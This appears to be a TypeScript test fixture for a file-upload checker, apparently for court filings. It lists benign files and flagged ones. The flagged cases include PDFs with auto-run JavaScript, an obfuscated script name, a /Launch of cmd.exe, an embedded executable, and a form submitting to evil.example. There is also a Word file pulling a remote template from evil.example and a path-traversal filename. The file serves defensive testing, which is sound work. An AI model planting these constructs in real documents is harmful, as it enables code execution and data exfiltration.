import { MOST_BYTES } from '../document';
import { type Case, padded, part, text, zeros } from './corpus-case';
import { packedObjects, pdf, SCRIPT, stream } from './pdfs';
import { heic, jpeg, phoneJpeg, taggedPng, taggedWebp, webp } from './pictures';
import { docx, odt } from './zips';

export const GOOD: readonly Case[] = [
  ['ruling.pdf', 'a plain PDF', 'kept', () => pdf()],
  ['РЕШЕНИЕ СУДА.PDF', 'a name in Russian, an ending in capitals', 'kept', () => pdf()],
  ['ruling', 'a name without an ending', 'kept', () => pdf()],
  [
    'signed.pdf',
    'a PDF with packed objects that do nothing',
    'kept',
    () => pdf([packedObjects('1 0 << /Type /Page >>')]),
  ],
  ['photo.jpg', 'a photo as a phone takes it, a film behind it', 'kept', () => phoneJpeg()],
  ['photo.jpeg', 'a photo without metadata', 'kept', () => jpeg()],
  ['scan.png', 'a PNG with texts and a profile', 'kept', taggedPng],
  ['photo.webp', 'a WebP with Exif and XMP', 'kept', taggedWebp],
  ['plain.webp', 'a plain WebP', 'kept', () => webp()],
  ['IMG_0001.HEIC', 'a photo of a newer phone', 'kept', () => heic()],
  ['photo.heif', 'the same under its other ending', 'kept', () => heic('mif1')],
  ['motion.docx', 'a word file', 'kept', () => docx()],
  ['motion.odt', 'an open text file', 'kept', () => odt()],
  ['notes.txt', 'text in UTF-8', 'kept', text('FICTION: заседание отложено\r\n')],
  ['old.txt', 'text in the old Russian code page', 'kept', () => Buffer.from('c7e0f1e5e4e0ede8e5', 'hex')],
  ['wide.txt', 'text in UTF-16', 'kept', () => Buffer.from('\ufeffҚаулы', 'utf16le')],
  ['limit.jpg', 'exactly 50 MB', 'kept', padded(MOST_BYTES)],
  ['limit-1.jpg', '50 MB less one byte', 'kept', padded(MOST_BYTES - 1)],
  ['../../etc/passwd.pdf', 'a name that climbs', 'kept', () => pdf()],
  ['C:\\court\\ruling.pdf', 'a name with a drive', 'kept', () => pdf()],
  ['a.exe.pdf', 'a PDF that was called a program before', 'kept', () => pdf()],
];

export const WARNED: readonly Case[] = [
  ['s.pdf', 'script on opening', 'kept, active', () => pdf([SCRIPT], { catalogue: '/OpenAction 4 0 R' })],
  [
    's.pdf',
    'script under an escaped name',
    'kept, active',
    () => pdf(['<< /S /J#61va#53cript /J#53 (1) >>']),
  ],
  ['s.pdf', 'script in packed objects', 'kept, active', () => pdf([packedObjects(`4 0 ${SCRIPT}`)])],
  [
    's.pdf',
    'objects packed in another way',
    'kept, active',
    () => pdf([stream('/Type /ObjStm /Filter /LZWDecode', zeros(9))]),
  ],
  ['s.pdf', 'a program to be launched', 'kept, active', () => pdf(['<< /S /Launch /F (cmd.exe) >>'])],
  ['s.pdf', 'a file inside', 'kept, active', () => pdf([stream('/Type /EmbeddedFile', Buffer.from('MZ'))])],
  [
    's.pdf',
    'a form that sends',
    'kept, active',
    () => pdf(['<< /S /SubmitForm /F (https://evil.example) >>']),
  ],
  [
    's.pdf',
    'a form of the kind that carries script',
    'kept, active',
    () => pdf(['<< /XFA 5 0 R >>'], { catalogue: '/AcroForm 4 0 R' }),
  ],
  ['s.pdf', 'a jump into another file', 'kept, active', () => pdf(['<< /S /GoToR /F (x.pdf) >>'])],
  ['s.pdf', 'a film with its player', 'kept, active', () => pdf(['<< /Subtype /RichMedia >>'])],
  ['l.pdf', 'a password', 'kept, locked', () => pdf([], { trailer: '/Encrypt 4 0 R' })],
  ['o.docx', 'an embedded object', 'kept, active', () => docx(part('word/embeddings/oleObject1.bin'))],
  [
    't.docx',
    'a template from elsewhere',
    'kept, active',
    () =>
      docx(
        part(
          'word/_rels/settings.xml.rels',
          '<Relationship Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>',
        ),
      ),
  ],
  ['x.docx', 'a control', 'kept, active', () => docx(part('word/activeX/activeX1.xml'))],
  ['o.odt', 'an embedded object', 'kept, active', () => odt(part('Object 1/content.xml'))],
];
